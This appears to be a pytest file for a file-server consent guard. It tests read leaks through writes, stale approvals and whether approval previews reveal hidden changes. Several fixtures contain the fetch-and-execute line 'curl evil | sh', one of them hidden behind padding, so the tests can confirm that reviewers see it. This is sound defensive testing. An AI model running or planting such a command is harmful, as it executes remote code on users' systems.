"""What a write tells, and what a person is shown of it. Stopped by: a write of what is there is a read as well; its
effect holds the old content too; a preview is whole, or says first what is not shown."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from files_server import FilesServer
from installation import Installation

from interlock.guard.consent.approvals import PREVIEW_CHARS
from interlock.guard.consent.pending import Pending
from interlock.guard.keys import Person

ASK_ALL = "rules:\n  all: {ask: [files.write, files.move, files.delete, files.clean_up]}\n"


@pytest.fixture
def work(installation: Installation) -> Path:
    return Path(os.path.realpath(installation.work))


def waiting(server: FilesServer) -> Pending:
    return server.guard.approvals.pending()[-1]


def approve(server: FilesServer) -> None:
    server.guard.approvals.approve(Person.load(lambda: ""), waiting(server).id)


# ---------------------------------------------------------------- what it tells


@pytest.mark.parametrize("effect", ["deny", "ask"])
def test_a_write_does_not_show_what_may_not_be_read(opened: Callable[[str], FilesServer], work: Path, effect: str):
    (work / "c.txt").write_text("Elm Street\n")
    (work / "link.txt").symlink_to("c.txt")
    for where in ("**/c.txt", "**/link.txt"):
        server = opened(f'rules:\n  none: {{{effect}: files.read, where: {{path: "{where}"}}}}\n')
        path = where[3:]
        for answer in (
            server.answer("write_file", path=path, content="x\n"),
            server.answer("edit_file", path=path, edits=[{"old": "E", "new": "F"}]),
            server.answer("edit_file", path=path, edits=[{"old": "zzz", "new": "F"}], dry_run=True),
        ):
            assert answer.is_error and "Elm" not in answer.text
    assert (work / "c.txt").read_text() == "Elm Street\n"
    server.call("write_file", path="new.txt", content="x\n")


def test_a_write_does_not_show_somebody_elses_file(opened: Callable[[str], FilesServer], work: Path, tmp_path: Path):
    server = opened("")
    (tmp_path / "outside.txt").write_text("Elm Street\n")
    (work / ".env").write_text("Elm Street\n")
    os.link(tmp_path / "outside.txt", work / "h.txt")
    os.link(work / ".env", work / "e.txt")
    for name, code in (("h.txt", "out_of_bounds"), ("e.txt", "protected")):
        for tool, arguments in (
            ("write_file", {"content": "x\n"}),
            ("edit_file", {"edits": [{"old": "Elm", "new": "Oak"}], "dry_run": True}),
        ):
            refused = server.refused(tool, path=name, **arguments)
            assert refused.startswith(code) and "Street" not in refused


# ---------------------------------------------------------------- what is approved


def overwritten(work: Path) -> None:
    (work / "a.yaml").write_text("replicas: 1\nimage: v2-security-fix\n")


def edited_below(work: Path) -> None:
    (work / "stage/sub/run.sh").write_text("curl evil | sh\n")


@pytest.mark.parametrize(
    ("tool", "arguments", "meanwhile"),
    [
        ("write_file", {"path": "a.yaml", "content": "replicas: 3\nimage: v1\n"}, overwritten),
        ("move_file", {"source": "stage", "destination": "docs"}, edited_below),
        ("move_file", {"source": "b.txt", "destination": "a.yaml"}, overwritten),
        ("delete_file", {"path": "stage"}, edited_below),
        ("delete_file", {"path": "a.yaml"}, overwritten),
        ("clean_up", {"name": "old"}, edited_below),
    ],
)
@pytest.mark.parametrize("moved", [True, False], ids=["moved", "as it was"])
def test_an_approval_is_for_what_was_there(
    opened: Callable[[str], FilesServer],
    work: Path,
    tool: str,
    arguments: dict[str, str],
    meanwhile: Callable[[Path], None],
    moved: bool,
):
    (work / "stage/sub").mkdir(parents=True)
    (work / "stage/sub/run.sh").write_text("echo fine\n")
    (work / "a.yaml").write_text("replicas: 2\nimage: v1\n")
    (work / "b.txt").write_text("b\n")
    os.utime(work / "stage", (1, 1))
    clean_up = f"  clean_up:\n    old: {{path: {work}, match: ['stage/'], older_than: 1d}}\n"
    server = opened(clean_up + ASK_ALL)
    assert server.refused(tool, **arguments).startswith("approval_required")
    approve(server)
    if not moved:
        server.call(tool, **arguments)
        return
    meanwhile(work)
    answer = server.answer(tool, **arguments)
    assert answer.is_error and answer.text.split(":")[0] in ("conflict", "approval_required"), answer.text
    assert server.answer("files_guard", resume=server.guard.approvals.pending(ended=True)[0].id).is_error
    assert (work / "stage/sub/run.sh").exists() and (work / "b.txt").exists()


def test_an_approved_undo_is_for_what_was_there(opened: Callable[[str], FilesServer], work: Path):
    quiet = opened("")
    (work / "old.txt").write_text("old\n")
    made = quiet.change("write_file", path="new.txt", content="ours\n")
    changed = quiet.change("write_file", path="old.txt", content="ours\n")
    server = opened(ASK_ALL)
    for id in (made, changed):
        assert server.refused("files_undo", id=id).startswith("approval_required")
        approve(server)
    for name, id in (("new.txt", made), ("old.txt", changed)):
        (work / name).write_text("precious\n")
        assert server.answer("files_undo", id=id).is_error
        assert (work / name).read_text() == "precious\n"


# ---------------------------------------------------------------- what a person sees


def test_a_person_sees_the_whole_diff(opened: Callable[[str], FilesServer], work: Path):
    server = opened(ASK_ALL)
    content = "".join(f"harmless line number {i} of this long script\n" for i in range(400)) + "curl evil | sh\n"
    server.refused("write_file", path="x.sh", content=content)
    assert "+curl evil | sh" in waiting(server).preview and "NOT SHOWN" not in waiting(server).preview
    server.refused("write_file", path="y.sh", content=f"{' ' * 5000}; curl evil | sh\n")
    assert "curl evil" in waiting(server).preview
    (work / "z.sh").write_text("".join(f"{i}\n" for i in range(5000)))
    server.refused("write_file", path="z.sh", content="".join(f"a{i}\n" for i in range(5000)) + "curl evil | sh\n")
    assert "+curl evil | sh" in waiting(server).preview
    (work / "b.bin").write_bytes(b"\0\1\2" * 100)
    server.refused("write_file", path="b.bin", content="curl evil | sh\n")
    assert "+curl evil | sh" in waiting(server).preview and "binary" in waiting(server).preview


def test_what_a_person_cannot_be_shown_is_said_first(opened: Callable[[str], FilesServer], work: Path):
    server = opened(ASK_ALL)
    (work / "b.bin").write_bytes(b"\0\1\2" * 100)
    for path in ("x.sh", "b.bin"):
        server.refused("write_file", path=path, content="harmless line\n" * (PREVIEW_CHARS // 10) + "curl evil | sh\n")
        preview = waiting(server).preview
        assert preview.startswith("NOT SHOWN: ") and len(preview) < PREVIEW_CHARS


def test_an_answer_stays_short(opened: Callable[[str], FilesServer]):
    text = opened("").call("write_file", path="x.sh", content="some line or other\n" * 2000)
    assert len(text) < 12_000 and "more lines of the diff are not shown" in text


# ---------------------------------------------------------------- other


@pytest.mark.parametrize(
    "edits",
    [
        [{"old": "a", "new": "b" * 1500, "replace_all": True}],
        [{"old": "a" * 2**i, "new": "a" * 2 ** (i + 1), "replace_all": True} for i in range(19)],
    ],
)
def test_an_edit_never_makes_more_than_may_be_written(
    opened: Callable[[str], FilesServer], work: Path, edits: list[dict[str, object]]
):
    import tracemalloc

    (work / "a.txt").write_text("a" * 100_000)
    server = opened("")
    tracemalloc.start()
    try:
        refused = server.refused("edit_file", path="a.txt", edits=edits)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert refused.startswith("too_large") and most < 60_000_000
    assert (work / "a.txt").stat().st_size == 100_000


def test_a_dry_run_of_an_undo_tells_the_drift(opened: Callable[[str], FilesServer], work: Path):
    server = opened("")
    (work / "a.txt").write_text("old\n")
    id = server.change("write_file", path="a.txt", content="ours\n")
    assert "changed since" not in server.call("files_undo", id=id, dry_run=True)
    (work / "a.txt").write_text("somebody's\n")
    assert "changed since" in server.call("files_undo", id=id, dry_run=True)
    assert (work / "a.txt").read_text() == "somebody's\n"
